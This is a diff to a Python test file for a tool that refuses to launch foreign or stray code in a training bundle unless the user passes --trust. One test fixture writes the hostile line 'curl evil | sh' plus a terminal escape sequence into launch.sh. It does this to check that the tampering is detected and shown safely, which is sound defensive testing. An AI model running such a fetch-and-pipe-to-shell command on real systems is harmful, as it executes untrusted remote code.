@@ -1,4 +1,4 @@
-"""Code from elsewhere is shown before it is run."""
+"""Foreign code is shown, and runs only if it is trusted."""
 
 from pathlib import Path
 
@@ -25,21 +25,21 @@ def test_code_that_this_installation_writes_is_its_own(compiled: Compiled) -> No
     require_own_code(compiled.bundle)
 
 
-def test_what_is_other_about_the_code_is_shown_in_short(compiled: Compiled) -> None:
+def test_foreign_code_is_shown_in_excerpt(compiled: Compiled) -> None:
     bundle = compiled.bundle
     script = bundle.folder / "launch.sh"
     _change(script, script.read_bytes().replace(b"set -euo pipefail", b"curl evil | sh\x1b[2J"))
     _change(bundle.folder / "code/long.py", b"x = 1\n" * 99)
     with pytest.raises(ForeignCode, match=r"code/long\.py, launch\.sh.*--trust") as refused:
         require_own_code(bundle)
-    assert len(refused.value.excerpt) == 21
-    assert refused.value.excerpt[-1].endswith("more lines")
+    assert len(refused.value.details) == 21
+    assert refused.value.details[-1].endswith("more lines")
     (bundle.folder / "code/long.py").unlink()
     with pytest.raises(ForeignCode) as refused:
         require_own_code(bundle)
-    assert "-set -euo pipefail" in refused.value.excerpt
+    assert "-set -euo pipefail" in refused.value.details
     # What a terminal would obey is not passed on.
-    assert "+curl evil | sh\\x1b[2J" in refused.value.excerpt
+    assert "+curl evil | sh\\x1b[2J" in refused.value.details
 
 
 @pytest.mark.parametrize(
@@ -52,7 +52,7 @@ def test_code_that_this_installation_does_not_have_is_foreign(
     bundle = sealed(compiled.bundle.folder)
     with pytest.raises(ForeignCode, match=rf"would not write \({name}\)") as refused:
         plan_launch(Bundle(bundle))
-    assert "+print('executed')" in refused.value.excerpt
+    assert "+print('executed')" in refused.value.details
     assert plan_launch(Bundle(bundle), RunOptions(trust=True)).command
 
 
@@ -77,24 +77,22 @@ def test_settings_of_accelerate_that_this_installation_would_not_write_are_forei
 @pytest.mark.parametrize(
     "name", ["local/sitecustomize.py", "local/bin/python", "runs/evil.py", "runs/torch/x.py"]
 )
-def test_what_lies_beside_a_bundle_and_belongs_to_none_needs_trust(
-    name: str, compiled: Compiled
-) -> None:
+def test_stray_files_in_a_bundle_need_trust(name: str, compiled: Compiled) -> None:
     plant(compiled.bundle.folder, name)
     stray = "/".join(name.split("/")[:2])
-    with pytest.raises(UserError, match=rf"holds what no bundle does \({stray}\): .*--trust"):
+    with pytest.raises(UserError, match=rf"has files that no bundle has \({stray}\): .*--trust"):
         plan_launch(compiled.bundle)
     assert plan_launch(compiled.bundle, RunOptions(trust=True)).command
 
 
-def test_a_validation_image_that_the_settings_do_not_name_needs_trust(compiled: Compiled) -> None:
+def test_a_stray_validation_image_needs_trust(compiled: Compiled) -> None:
     plant(compiled.bundle.folder, "validation/07.png")
     bundle = sealed(compiled.bundle.folder)
-    with pytest.raises(UserError, match=r"holds what no bundle does \(validation/07\.png\)"):
+    with pytest.raises(UserError, match=r"has files that no bundle has \(validation/07\.png\)"):
         plan_launch(Bundle(bundle))
 
 
-def test_what_compiling_running_and_archiving_leave_is_no_stranger(compiled: Compiled) -> None:
+def test_files_that_our_commands_write_are_not_strays(compiled: Compiled) -> None:
     for name in ("runs/0001/run.json", "local/.paths.json.x.tmp", "local/data/a.mp4"):
         plant(compiled.bundle.folder, name, b"{}")
     archive_bundle(compiled.bundle, compiled.bundle.folder.parent / "it.tar.zst", provenance=True)
